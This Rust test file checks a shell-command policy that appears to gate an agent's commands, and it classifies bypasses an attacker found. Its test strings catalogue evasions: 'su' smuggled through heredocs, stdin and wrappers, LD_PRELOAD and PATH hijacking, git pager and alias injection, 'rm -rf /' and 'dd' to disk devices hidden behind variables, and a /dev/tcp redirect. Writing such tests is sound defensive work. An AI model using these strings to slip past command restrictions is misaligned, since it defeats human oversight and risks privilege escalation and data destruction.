//! The classes of defects an attacker found in the command policy, one test
//! per class; each class has more members than its examples here, so the
//! fixes are for the class.

use super::*;

/// `line` under `p`, from an admin, in /tmp.
fn on(p: &Policy, line: &str) -> &'static str {
    decide(p, line, false)
}

fn with_env(p: &Policy, line: &str, env: &[(&str, &str)]) -> &'static str {
    let env: HashMap<String, String> = env
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    outcome(
        p,
        &Request {
            shell: line,
            cwd: "/tmp",
            env: Some(&env),
            requested_by: "admin",
            ..Default::default()
        },
    )
}

/// Every line gets `want`; all that do not are listed.
fn all(p: &Policy, lines: &[&str], want: &str) {
    let wrong: Vec<String> = lines
        .iter()
        .map(|l| (l, on(p, l)))
        .filter(|(_, got)| *got != want)
        .map(|(l, got)| format!("{l:?} => {got}"))
        .collect();
    assert!(wrong.is_empty(), "want {want}:\n{}", wrong.join("\n"));
}

/// Neither allowed nor waiting for nobody: denied or confirmed.
fn not_allowed(p: &Policy, lines: &[&str]) {
    let wrong: Vec<&str> = lines
        .iter()
        .copied()
        .filter(|l| on(p, l) == "allow")
        .collect();
    assert!(wrong.is_empty(), "allowed: {wrong:?}");
}

#[test]
fn test_brackets_are_builtins() {
    let p = policy(DEFAULT_POLICY);
    all(
        &p,
        &[
            "if [ -f x ]; then echo y; fi",
            "[ -d /tmp ] && echo ok",
            "[ \"$a\" = b ] || ls",
            "[[ -f x ]] && ls",
            "test -f x && ls",
            "if [ ! -e \"$f\" ]; then ls; else ls -l; fi",
            "while [ $i -lt 3 ]; do i=$((i+1)); done",
            "echo ] [",
        ],
        "allow",
    );
    // A real bracket expression is still a glob.
    all(&p, &["/bin/s[u] -c id", "/bin/[s]u"], "deny");
    let allow = policy("[commands]\nallow = [\"ls\"]\n[dirs]\nroots = [\"/tmp\"]\n");
    all(
        &allow,
        &["[ -f x ] && ls", "if [ -f x ]; then ls; fi"],
        "allow",
    );
}

#[test]
fn shells_reading_their_input_run_what_it_holds() {
    let p = policy(DEFAULT_POLICY);
    all(
        &p,
        &[
            "echo su | . /dev/stdin",
            "echo su | source /dev/stdin",
            "echo su | sh /dev/stdin",
            "echo su | bash -s",
            "echo su | bash -s -- a b",
            "source <(echo su)",
            ". <(echo su)",
            "sh <(echo su)",
            "bash < <(echo su)",
            "echo su | bash /dev/fd/0",
            "echo su | bash /proc/self/fd/0",
            "echo su | sh -",
            "echo su | sh ../../../../../../dev/stdin",
            "sh <<< \"$x\"",
            "sh <<< 'su'",
            "sh <<EOF\nsu\nEOF\n",
            "sh <<'EOF'\nsu\nEOF\n",
            "bash -s <<EOF\n$x\nEOF\n",
            "bash /dev/fd/3 3<<EOF\nsu\nEOF\n",
            "bash /dev/fd/3 3<<< \"$y\"",
            "sh -c \"$(cat)\"",
            "cat x | env sh",
            "sudo -s",
            "nice bash",
            "echo su | bash -i",
            "echo su | bash --",
            "echo su | exec sh",
            "bash < /dev/stdin",
            "sh 0<&3",
            "sh /dev/./stdin",
            ". /proc/thread-self/fd/0",
            "sh -c 'sh' <<EOF\nsu\nEOF\n",
            "busybox sh <<< su",
            "zsh <<< su",
            "bash <<EOF\n$(echo ls)\nEOF\n",
        ],
        "deny",
    );
    // A script that is known is analysed, not refused.
    all(
        &p,
        &[
            "sh <<'EOF'\nls -l\nEOF\n",
            "bash <<< 'ls'",
            "bash -s <<EOF\necho hi\nEOF\n",
            "sh build.sh",
        ],
        "allow",
    );
    let open = policy("[dirs]\nroots = [\"/tmp\"]\n");
    all(
        &open,
        &[
            "echo ls | sh /dev/stdin",
            "echo ls | . /dev/stdin",
            "source <(echo ls)",
        ],
        "confirm",
    );
}

#[test]
fn builtins_and_wrappers_that_run_commands_are_seen_through() {
    let p = policy(DEFAULT_POLICY);
    all(
        &p,
        &[
            "trap -- su EXIT",
            "trap -- 'su -c id' INT TERM",
            "eval -- su",
            "eval -- 'su -c id'",
            "jobs -x su",
            "mapfile -C su -c 1 a < /etc/hostname",
            "readarray -C 'su' a <<< x",
            "mapfile -t -C 'sudo -u' -c 1 a <<< x",
            "compgen -C su x",
            "complete -C su x",
            "compgen -W '$(su)' x",
            "command -- su",
            "command -p su",
            "builtin eval su",
            "exec -a x su",
            "exec -- su",
            "time su",
            "time -p su",
            "\\time -v su",
            "coproc su",
            "coproc N { su; }",
            "echo su | xargs sh -c",
            "echo su | xargs -0 bash -c",
            "echo su | xargs env",
            "echo su | xargs busybox",
            "echo / | xargs rm -rf",
            "flock /tmp/l -c su",
            "flock /tmp/l --command 'su -c id'",
            "flock /tmp/l su",
            "flock -w 5 /tmp/l su",
            "flock -x /tmp/l su -c id",
            "setsid su",
            "setsid -w su",
            "nohup su",
            "stdbuf -oL su",
            "chroot / su",
            "chroot --userspec=a:b / su",
            "chroot /",
            "unshare -r su",
            "unshare --fork --pid su",
            "unshare -r",
            "systemd-run --user su",
            "systemd-run -t --wait su",
            "ionice -c3 su",
            "taskset -c 1 su",
            "runuser -u root -- su",
            "runuser -u root su",
            "runuser root -c su",
            "setpriv --reuid=0 su",
            "script -c su /dev/null",
            "script -qc su",
            "script -q /dev/null",
            "parallel su ::: 1",
            "echo su | parallel",
            "sshpass -p x su",
            "strace -f su",
            "strace -o /dev/null -f su",
            "ltrace su",
            "gdb --args su",
            "gdb -batch -ex run --args su",
            "timeout 5 su",
            "timeout -k 1 5 su",
            "busybox sh -c su",
            "busybox ash -c 'su -c id'",
            "nice -n 1 -- su",
            "env -- su",
            "env -i su",
            "valgrind --leak-check=full su",
            "fakeroot su",
            "eatmydata su",
            "nsenter -t 1 -m su",
            "sg wheel su",
            "sg wheel -c su",
            "ssh-agent su",
            "dbus-run-session -- su",
            "watch -x su",
            "fish -c 's\\x75'",
            "zsh -c '=su'",
            "time -o /tmp/t su -c id",
            "exec -cl su -c id",
            "builtin command su -c id",
            "flock -n /tmp/l -c 'su -c id'",
            "su - root -c reboot",
            "runuser -l user -c 'su -c id'",
            "busybox env su -c id",
            "find . -maxdepth 0 -execdir su -c id ';'",
            "npx reboot",
            "npx -c reboot",
            "npm exec -- reboot",
            "uv run reboot",
            "poetry run reboot",
            "bundle exec reboot",
            "tmux new -d reboot",
            "tmux send-keys -t main reboot Enter",
            "screen -dm reboot",
            "at now <<< reboot",
            "systemd-run -p ExecStartPre=/sbin/reboot true",
            "strace -o '|reboot' ls",
            "hash -p /sbin/reboot ls; ls",
            "declare -x GIT_PAGER='su -c id'; git log",
            "read EDITOR; git commit",
            "mapfile -C 'eval' -c 1 a <<< su",
        ],
        "deny",
    );
    // `xargs git` may be `git -c core.pager=su log`.
    assert_eq!(on(&p, "echo push | xargs git"), "deny");
    all(
        &p,
        &[
            "time ls",
            "command -v ls",
            "trap 'echo bye' EXIT",
            "trap - EXIT",
            "flock /tmp/l ls",
            "echo a | xargs -n1 echo",
            "nohup ls",
            "timeout 5 ls",
            "mapfile -t a < /etc/hostname",
            "find . -name '*.o' -exec rm -f {} +",
            "eval 'ls -l'",
            "hash -r",
            "tmux capture-pane -p -t main",
            "command -pv su",
            "eval -- ls",
        ],
        "allow",
    );
}

#[test]
fn allow_lists_see_functions_sourced_files_loader_variables_and_overwrites() {
    let p = policy(
        "[commands]\nallow = [\"ls\", \"cat\", \"cp\", \"git\"]\n[dirs]\nroots = [\"/tmp\"]\n",
    );
    all(
        &p,
        &[
            // A function named like a program may not be defined when the
            // name runs: the program runs instead.
            "false && python3() { :; }; python3 -c 1",
            "true || sh() { :; }; sh -c id",
            "sh -c id; sh() { :; }",
            "ls() { rm -rf ~; }; ls",
            // Sourced files are code nobody listed.
            ". ./x.sh",
            "source x",
            "ls; . /tmp/x",
            // Loader and interpreter variables.
            "LD_LIBRARY_PATH=/tmp ls",
            "LD_PRELOAD=/tmp/x.so ls",
            "GCONV_PATH=. ls",
            "export LD_LIBRARY_PATH=/tmp; ls",
            "declare -x LD_LIBRARY_PATH=/tmp; ls",
            "env LD_LIBRARY_PATH=/tmp ls",
            "PYTHONSTARTUP=x ls",
            "NODE_OPTIONS=--require=/tmp/x ls",
            "PERL5OPT=-Mx ls",
            "RUBYOPT=x ls",
            "SHELLOPTS=xtrace ls",
            "BASHOPTS=x ls",
            "PS4='$(id)' ls",
            "PROMPT_COMMAND=id ls",
            "BASH_ENV=/tmp/x ls",
            "ENV=/tmp/x ls",
            "IFS=/ ls",
            "CDPATH=/ ls",
            "HOME=/ git status",
            "PATH=/tmp ls",
            "read PATH; ls",
            "printf -v PATH /tmp; ls",
            "declare PATH=/tmp; ls",
            "export \"PATH=/tmp\"; ls",
            "for PATH in /tmp; do ls; done",
            "BASH_CMDS[ls]=/bin/sh; ls",
            "GIT_SSH_COMMAND=sh git fetch",
            "GIT_PAGER='sh -c id' git log",
            "GIT_EXTERNAL_DIFF=sh git diff",
            "GIT_EDITOR=sh git commit",
            "EDITOR=sh git commit",
            "VISUAL=sh git commit",
            "PAGER=sh git log",
            "GIT_EXEC_PATH=/tmp git status",
        ],
        "deny",
    );
    assert_eq!(with_env(&p, "ls", &[("LD_LIBRARY_PATH", "/tmp")]), "deny");
    assert_eq!(with_env(&p, "git log", &[("GIT_PAGER", "sh")]), "deny");
    assert_eq!(with_env(&p, "ls", &[("NODE_OPTIONS", "x")]), "deny");
    all(
        &p,
        &["ls -l; echo hi", "[ -f x ] && ls", "cat /etc/hostname"],
        "allow",
    );

    // Overwriting an allowed file, then running it.
    let dir = tempfile::tempdir().unwrap();
    let tool = dir.path().join("tool");
    std::fs::copy("/bin/true", &tool).unwrap();
    let tool = tool.display().to_string();
    let p = policy(&format!(
        "[commands]\nallow = [{tool:?}, \"cp\", \"cat\", \"ls\"]\n[dirs]\nroots = [\"/tmp\"]\n"
    ));
    assert_eq!(on(&p, &tool), "allow");
    for line in [
        format!("cp /bin/sh {tool}; {tool} -c id"),
        format!("cat /bin/sh > {tool}; {tool} -c id"),
        format!("{tool}; cp /bin/sh {tool}"),
        format!("ls > {tool}; {tool}"),
        format!("ls > {tool}/../tool; {tool}"),
        format!("ls > \"$F\"; cp /bin/ls x; {tool}"),
    ] {
        assert_eq!(on(&p, &line), "deny", "{line}");
    }
    let p = policy("[commands]\nallow = [\"sh\", \"cp\"]\n[dirs]\nroots = [\"/tmp\"]\n");
    assert_eq!(on(&p, "cp /tmp/evil x.sh; sh x.sh"), "deny");
    assert_eq!(on(&p, "echo su > x.sh; sh x.sh"), "deny");
    let p = policy(&format!(
        "[commands]\nallow = [{tool:?}, \"cp\", \"cat\", \"ls\"]\n[dirs]\nroots = [\"/tmp\"]\n"
    ));
    // A redirection into another file cannot change it.
    assert_eq!(on(&p, &format!("echo hi > x; {tool}")), "allow");
}

#[test]
fn rm_and_dd_operands_known_only_when_they_run_may_match() {
    let p = policy(DEFAULT_POLICY);
    all(
        &p,
        &[
            "rm -rf $X",
            "rm -rf \"$X\"",
            "rm -rf \"$PWD\"",
            "rm -rf ${X:-/}",
            "rm -rf $(echo /)",
            "rm -rf `echo /`",
            "rm -rf ~$USER",
            "rm -rf /?*",
            "rm -rf /[a-z]*",
            "rm -rf {/,x}",
            "rm -rf /{,}",
            "rm -rf {/tmp,x}",
            "rm -rf /tm{p,q}",
            "rm -rf build/$X",
            "rm -rf \"$X\"/build",
            "rm $FLAGS /",
            "rm -f $MORE /",
            "rm -rf -- \"$X\"",
            "cd / && rm -rf *",
            "cd / && rm -rf usr",
            "cd /tmp && rm -rf ../tmp",
            "find / -exec rm -rf {} +",
            "find / -exec rm -rf {} ';'",
            "find /tmp -execdir rm -rf {} ';'",
            "find / -delete",
            "find ~ -delete",
            "find /tmp -mindepth 0 -delete",
            "find $D -delete",
            "sudo find / -delete",
            "dd if=/dev/zero of=$DEV",
            "dd if=/dev/zero of=/dev/./sda",
            "dd if=/dev/zero of=/dev/sd$N",
            "echo / | xargs rm -rf",
            "rm -rf /{usr,etc}",
            "rm -rf /{a..z}*",
            "rm -rf ~root",
            "rm -rf /*/",
            "busybox rm -rf /",
        ],
        "deny",
    );
    all(
        &p,
        &[
            "rm -rf /tmp/build",
            "rm -rf ./build",
            "rm -rf .",
            "rm -rf ..",
            "rm -rf x{/,}",
            "rm -f x",
            "rm -rf build/*.o",
            "find . -name '*.o' -delete",
            "find . -type d -name node_modules -exec rm -rf {} +",
            "find /tmp/x -delete",
            "dd if=/dev/zero of=/tmp/img bs=1M count=1",
            "rm -rf ./..",
            "rm -rf ../",
        ],
        "allow",
    );
}

#[test]
fn git_push_behind_aliases_and_config_needs_confirmation() {
    let p = policy(DEFAULT_POLICY);
    all(
        &p,
        &[
            "git -c Alias.p=push p",
            "git -c alias.P=push P",
            "git -c ALIAS.p=push p",
            "git -c alias.p='!git push' p",
            "git -c alias.p='push --force' p",
            "git -C /tmp push",
            "git --git-dir=x push",
            "git --git-dir x push",
            "git p",
            "git PUSH",
            "git \"$SUB\"",
            "/usr/lib/git-core/git-push origin",
            "git submodule foreach 'git push'",
            "git rebase -x 'git push' HEAD~1",
            "git -c x.y=z -C . push",
        ],
        "confirm",
    );
    not_allowed(
        &p,
        &[
            "git $SUB",
            "git \"$OPT\" log",
            "git --config-env=alias.p=VAR p",
            "git --config-env alias.p=VAR p",
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0=push git p",
            "git --exec-path=/tmp p",
            "env GIT_CONFIG_PARAMETERS=\"'alias.p'='push'\" git p",
        ],
    );
    assert_ne!(
        with_env(
            &p,
            "git p",
            &[("GIT_CONFIG_PARAMETERS", "'alias.p'='push'")]
        ),
        "allow"
    );
    assert_ne!(
        with_env(
            &p,
            "git p",
            &[
                ("GIT_CONFIG_COUNT", "1"),
                ("GIT_CONFIG_KEY_0", "alias.p"),
                ("GIT_CONFIG_VALUE_0", "push")
            ]
        ),
        "allow"
    );
    // Commands git runs for its configuration are judged too.
    all(
        &p,
        &[
            "git -c alias.p='!su' p",
            "git -c core.pager=su log",
            "git -c core.fsmonitor=su status",
            "git -c Core.SSHCommand=su fetch",
            "git config alias.x '!su'; git x",
            "git -c include.path=/tmp/x status",
            "git config core.pager 'su -c id'; git log",
            "git rebase --exec='su -c id' HEAD~1",
            "git submodule foreach --recursive 'su -c id'",
            "git fetch --upload-pack='su -c id' x",
            "git -c url.ext::sh.insteadOf=x fetch x",
            "git --config-env=core.pager=X log",
        ],
        "deny",
    );
    assert_eq!(on(&p, "git config alias.p push; git p"), "confirm");
    all(
        &p,
        &[
            "git status",
            "git log --oneline",
            "git -c color.ui=never status",
            "git -C /tmp log",
            "git --no-pager diff",
            "git commit -m push",
            "git -c alias.st=status st",
            "git stash push -m x",
            "git help push",
            "git config --global user.name x",
        ],
        "allow",
    );
}

#[test]
fn read_only_commands_do_not_write_through_redirections() {
    let p = policy("[agents]\nread_only = [\"ls\", \"git status\"]\n");
    for line in [
        "ls > x",
        "ls >> x",
        "ls 2> x",
        "ls &> x",
        "ls &>> x",
        "ls >| x",
        "ls 1<>x",
        "ls >&x",
        "git status > x",
        "ls > /dev/tcp/10.0.0.1/80",
        "{ ls; } > x",
        "ls > \"$F\"",
        "ls > /dev/null > x",
        "(ls) > x",
        "if true; then ls; fi > x",
        "exec > x; ls",
        "ls 3> x",
    ] {
        assert_eq!(decide_untrusted(&p, line, "trg_1", ""), "confirm", "{line}");
    }
    for line in [
        "ls",
        "ls > /dev/null",
        "ls 2>&1",
        "ls 2>/dev/null",
        "ls >/dev/stderr",
        "ls >/dev/stdout 2>&1",
        "git status 2>/dev/null",
        "ls >&2",
        "ls 1>&2",
        "ls &> /dev/null",
    ] {
        assert_eq!(decide_untrusted(&p, line, "trg_1", ""), "allow", "{line}");
    }
}
